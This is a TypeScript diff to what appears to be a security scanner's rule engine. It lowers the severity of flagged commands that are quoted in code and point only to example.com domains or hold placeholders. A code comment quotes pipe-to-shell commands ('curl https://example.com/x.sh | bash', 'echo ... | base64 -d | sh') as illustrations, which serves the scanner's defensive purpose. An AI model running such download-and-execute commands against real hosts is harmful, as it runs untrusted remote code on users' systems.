@@ -117,6 +117,25 @@ export function runRules(
           f.level = lowered;
           f.confidence = "low";
         }
+        if (
+          rule.whenQuoted === "keep" &&
+          file.kind === "instructions" &&
+          (context === "inline-code" || context === "code-block") &&
+          NEEDS_REMOTE.has(rule.category) &&
+          cannotRunAsWritten(m[0], pipedFrom(file.text, m.index))
+        ) {
+          const once = lowerSeverity(f.level);
+          const twice = once && lowerSeverity(once);
+          if (twice) {
+            f.adjusted = {
+              from: f.level,
+              reason:
+                "an illustration, not a command that can run: its host is a reserved example name or it holds a placeholder (…, <name>)",
+            };
+            f.level = twice;
+            f.confidence = "low";
+          }
+        }
         if (rule.allowlistedHostLevel) {
           const hosts = hostsIn(m[0]);
           if (hosts.length > 0 && hosts.every((h) => ctx.isAllowedHost(h))) {
@@ -134,6 +153,34 @@ export function runRules(
     }
   }
   return out;
+}
+
+/** Techniques that need a server or a payload to do harm: without a real one they cannot run. */
+const NEEDS_REMOTE = new Set(["download-execute", "obfuscation", "exfiltration", "remote-access"]);
+const PLACEHOLDER = /\.\.\.|\u2026|<[A-Za-z][\w .-]{0,30}>|\$\{?[A-Z_]*URL\}?/;
+
+/**
+ * Security guides and auditing skills quote attacks as examples: `curl https://example.com/x.sh |
+ * bash`, `echo ... | base64 -d | sh`. Such a command cannot do harm as written: every host in it is an
+ * RFC 2606 example domain (example.com/.net/.org; the `.example` and `.invalid` names are not
+ * counted, as defanged samples use them in place of real servers), or it has no host and holds a
+ * placeholder where the payload or address would be.
+ */
+function cannotRunAsWritten(text: string, input: string): boolean {
+  const hosts = hostsIn(text);
+  if (hosts.length > 0)
+    return hosts.every((h) => /(^|\.)example\.(com|net|org)$/.test(h) || /[{}$<>%]/.test(h));
+  return PLACEHOLDER.test(text) || PIPED_PLACEHOLDER.test(input);
+}
+
+/** `echo ... | base64 -d | sh`: the input piped into the match is a placeholder. */
+const PIPED_PLACEHOLDER = /(?:\.\.\.|\u2026|<[A-Za-z][\w .-]{0,30}>)["']?[ \t]*\|[ \t]*$/;
+
+/** The text before `offset` on its line, back to an opening backtick (at most 200 characters). */
+function pipedFrom(text: string, offset: number): string {
+  const from = Math.max(0, offset - 200, text.lastIndexOf("\n", offset - 1) + 1);
+  const before = text.slice(from, offset);
+  return before.slice(before.lastIndexOf("`") + 1);
 }
 
 const OPEN_QUOTES = new Set(['"', "'", "\u201C", "\u2018", "\u00AB", "`"]);
